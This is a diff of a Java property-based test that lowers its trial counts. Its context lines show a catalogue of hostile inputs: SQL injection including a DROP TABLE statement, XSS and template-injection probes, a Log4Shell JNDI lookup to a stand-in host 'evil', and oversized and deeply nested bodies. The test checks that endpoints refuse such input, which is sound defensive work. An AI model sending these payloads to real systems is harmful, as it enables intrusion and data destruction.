@@ -57,7 +57,7 @@ class BadInputCatalogueTest {
 
     static final String USER = "admin";
     static final String PASSWORD = "demo";
-    static final int TRIES = 30;
+    static final int TRIES = 20;
 
     static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
             "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil/a}",
@@ -222,7 +222,7 @@ class BadInputCatalogueTest {
         check(endpoint, realIds, json(body), "application/json", field + " = " + chosen);
     }
 
-    @Property(tries = 10, shrinking = ShrinkingMode.OFF)
+    @Property(tries = 8, shrinking = ShrinkingMode.OFF)
     void aBodyBeyondTheLimitIsAnswered413(@ForAll("withFields") Endpoint endpoint, @ForAll boolean realIds) {
         ObjectNode body = endpoint.plausible(realIds);
         body.put("fyld", "x".repeat(1_100_000));
@@ -246,7 +246,7 @@ class BadInputCatalogueTest {
         check(endpoint, realIds && parseRefuses, body, "application/json", "malformed " + body);
     }
 
-    @Property(tries = 15, shrinking = ShrinkingMode.OFF)
+    @Property(tries = 12, shrinking = ShrinkingMode.OFF)
     void deeplyNestedJsonIsRefused(@ForAll("withBodies") Endpoint endpoint, @ForAll("depth") int depth,
                                    @ForAll("anyField") int where, @ForAll boolean realIds) {
         String nested = "[".repeat(depth) + "]".repeat(depth);
